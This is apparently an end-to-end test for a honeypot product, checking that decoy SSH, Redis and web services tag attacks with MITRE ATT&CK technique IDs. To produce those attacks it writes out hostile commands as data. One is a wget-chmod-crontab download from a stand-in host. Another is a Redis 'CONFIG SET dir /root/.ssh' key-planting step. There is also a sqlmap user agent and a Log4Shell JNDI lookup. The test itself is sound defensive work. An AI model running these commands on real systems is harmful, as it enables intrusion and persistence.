// ATT&CK tagging end to end with real clients on the local runtime: OpenSSH logs in and runs
// `wget ...; chmod +x ...; crontab ...`, redis-cli does the SSH-key trick (CONFIG SET dir /root/.ssh),
// curl sends a sqlmap user agent and a JNDI lookup; the API then shows the expected technique ids on
// the attacker, with evidence, in the fleet matrix and through the attackers list's technique filter.
import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { firstAdminToken } from '../../control-plane/src/testing/first-admin';
import { startStack, type Stack } from '../../scripts/stack';
import { until } from './until';

const run = promisify(execFile);
const PW = 'Autumn2026!';
const sh = (cmd: string, args: string[]) => run(cmd, args, { timeout: 30_000 }).catch((e: { stdout?: string; stderr?: string }) => ({ stdout: e.stdout ?? '', stderr: e.stderr ?? '' }));

describe('ATT&CK tagging, end to end', () => {
  let stack: Stack;
  let token = '';
  const dir = mkdtempSync(join(tmpdir(), 'decnet-attack-e2e-'));
  const api = async (path: string) => (await (await fetch(stack.cp.url + path, { headers: { authorization: `Bearer ${token}` } })).json()) as Record<string, any>;

  beforeAll(async () => {
    const fleet = `[att-web]\nservices=http,redis\n\n[att-ssh]\nservices=ssh\n\n[att-ssh.ssh]\npassword=${PW}\nauth_failure_delay_ms=0\n`;
    stack = await startStack({ dataDir: join(dir, 'cp'), port: 0, mtlsPort: 0, fleetIni: fleet, env: { ...process.env, DECNET_ADMIN_PASSWORD: 'attack-admin-password-1' } });
    await stack.fleetRunning(60_000);
    token = await firstAdminToken(stack.cp.url, 'attack-admin-password-1', 'attack-admin-password-2');
  }, 180_000);

  afterAll(async () => {
    await stack?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('finds the techniques of real attacks on the attacker', async () => {
    const eps = stack.agent!.status().desiredState!.endpoints!;
    const at = (decky: string, service: string) => eps.find((e) => e.decky === decky && e.service === service)!;
    const ssh = at('att-ssh', 'ssh');
    const web = at('att-web', 'http');
    const redis = at('att-web', 'redis');

    const out = await sh('sshpass', ['-p', PW, 'ssh', '-p', String(ssh.port), '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'PreferredAuthentications=password', '-o', 'PubkeyAuthentication=no', '-o', 'ConnectTimeout=10',
      `root@${ssh.host}`, 'wget http://203.0.113.9/x86 -O /tmp/x86; chmod +x /tmp/x86; crontab /tmp/x86']);
    expect(String(out.stderr)).not.toContain('Permission denied');
    await sh('redis-cli', ['-h', redis.host, '-p', String(redis.port), 'CONFIG', 'SET', 'dir', '/root/.ssh']);
    await sh('curl', ['-s', '-o', '/dev/null', '-A', 'sqlmap/1.7.2#stable (https://sqlmap.org)', `http://${web.host}:${web.port}/item.php?id=1`]);
    await sh('curl', ['-s', '-g', '-o', '/dev/null', `http://${web.host}:${web.port}/?q=\${jndi:ldap://203.0.113.7:1389/a}`]);

    const attacker = await until('the local attacker', async () => (await api('/api/v1/attackers?q=127.0.0.1')).items.find((a: { ip: string }) => a.ip === '127.0.0.1'));
    const expected = ['T1053.003', 'T1078', 'T1098.004', 'T1105', 'T1190', 'T1222.002', 'T1595.002'];
    const techniques = await until('the expected techniques on the attacker', async () => {
      const t = (await api(`/api/v1/attackers/${attacker.id}/techniques`)).techniques as { techniqueId: string; name: string; tags: { ruleId: string; sessionId: string | null; evidence: Record<string, string> }[] }[];
      // Both web requests may land in different batches: wait for both T1190 rules, not the first.
      const web = t.find((x) => x.techniqueId === 'T1190')?.tags.map((g) => g.ruleId) ?? [];
      return expected.every((id) => t.some((x) => x.techniqueId === id)) && web.includes('R0007') && web.includes('R0008') ? t : undefined;
    }, 60_000);
    const byId = (id: string) => techniques.find((t) => t.techniqueId === id)!;
    expect(byId('T1105')).toMatchObject({ name: 'Ingress Tool Transfer' });
    expect(byId('T1105').tags[0]!.evidence.command).toContain('wget http://203.0.113.9/x86');
    expect(byId('T1105').tags[0]!.sessionId).toMatch(/att-ssh\/ssh\//);
    expect(byId('T1098.004').tags[0]).toMatchObject({ ruleId: 'R0026', evidence: { command: 'CONFIG SET dir /root/.ssh' } });
    expect(byId('T1190').tags.map((t) => t.ruleId).sort()).toEqual(['R0007', 'R0008']);
    expect(byId('T1078').tags[0]!.evidence).toMatchObject({ principal: 'root', service: 'ssh' });

    const matrix = await api('/api/v1/attack/matrix');
    for (const id of expected) expect(matrix.techniques.find((t: { techniqueId: string }) => t.techniqueId === id)?.attackers, id).toBeGreaterThanOrEqual(1);
    const filtered = await api('/api/v1/attackers?technique=T1098');
    expect(filtered.items.map((a: { ip: string }) => a.ip)).toContain('127.0.0.1');
  }, 120_000);
});
